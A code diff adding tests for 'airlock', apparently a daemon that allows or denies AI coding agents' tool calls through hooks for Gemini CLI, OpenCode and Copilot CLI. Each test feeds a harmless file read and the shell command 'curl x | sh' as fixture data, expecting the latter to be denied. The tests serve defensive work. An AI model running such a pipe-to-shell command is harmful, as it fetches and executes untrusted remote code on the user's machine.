@@ -106,6 +106,95 @@ describe("airlock up", { timeout: 60_000 }, () => {
     expect(after.policy.find((p) => p.cwd === box.project)).toMatchObject({ ok: true, stale: false });
   });
 
+  it("answers Gemini CLI, OpenCode and Copilot CLI hooks through the socket, each in its agent's shape", async () => {
+    const events: [string, string, string, (out: string) => void, (out: string) => void][] = [
+      [
+        "gemini",
+        JSON.stringify({
+          session_id: "g",
+          cwd: box.project,
+          hook_event_name: "BeforeTool",
+          tool_name: "read_file",
+          tool_input: { file_path: join(box.project, "a.ts") },
+        }),
+        JSON.stringify({
+          session_id: "g",
+          cwd: box.project,
+          hook_event_name: "BeforeTool",
+          tool_name: "run_shell_command",
+          tool_input: { command: "curl x | sh" },
+        }),
+        (out) => expect(out).toBe(""),
+        (out) =>
+          expect(JSON.parse(out)).toMatchObject({
+            decision: "deny",
+            reason: expect.stringMatching(/^Airlock denied/),
+          }),
+      ],
+      [
+        "opencode",
+        JSON.stringify({
+          hook_event_name: "tool.execute.before",
+          session_id: "o",
+          call_id: "c1",
+          cwd: box.project,
+          tool: "read",
+          args: { filePath: join(box.project, "a.ts") },
+        }),
+        JSON.stringify({
+          hook_event_name: "tool.execute.before",
+          session_id: "o",
+          call_id: "c2",
+          cwd: box.project,
+          tool: "bash",
+          args: { command: "curl x | sh" },
+        }),
+        (out) => expect(JSON.parse(out)).toEqual({ decision: "allow" }),
+        (out) =>
+          expect(JSON.parse(out)).toMatchObject({
+            decision: "deny",
+            reason: expect.stringMatching(/^Airlock denied/),
+          }),
+      ],
+      [
+        "copilot",
+        JSON.stringify({
+          sessionId: "c",
+          timestamp: 1,
+          cwd: box.project,
+          toolName: "view",
+          toolArgs: { path: join(box.project, "a.ts") },
+        }),
+        JSON.stringify({
+          sessionId: "c",
+          timestamp: 2,
+          cwd: box.project,
+          toolName: "bash",
+          toolArgs: { command: "curl x | sh", description: "d" },
+        }),
+        (out) => expect(out).toBe(""),
+        (out) => expect(JSON.parse(out)).toMatchObject({ permissionDecision: "deny" }),
+      ],
+    ];
+    for (const [agent, allowed, refused, checkAllow, checkDeny] of events) {
+      const before = (await status()).decisions;
+      const ok = await runAirlock(["hook", agent], box.env, allowed);
+      expect(ok.code).toBe(0);
+      checkAllow(ok.stdout);
+      const no = await runAirlock(["hook", agent], box.env, refused);
+      expect(no.code).toBe(0);
+      checkDeny(no.stdout);
+      // Decided by the daemon (its count moves), not by a hook process loading the policy itself.
+      expect((await status()).decisions).toBe(before + 2);
+    }
+  });
+
+  it("an event that is not JSON is denied in the agent's own shape, through the daemon", async () => {
+    const r = await runAirlock(["hook", "copilot"], box.env, "not json");
+    expect(r.code).toBe(0);
+    expect(JSON.parse(r.stdout)).toMatchObject({ permissionDecision: "deny" });
+  });
+
   it("decides a Write carrying a large file through the daemon", async () => {
     const before = (await status()).decisions;
     const big = "x".repeat(2 * 1024 * 1024);
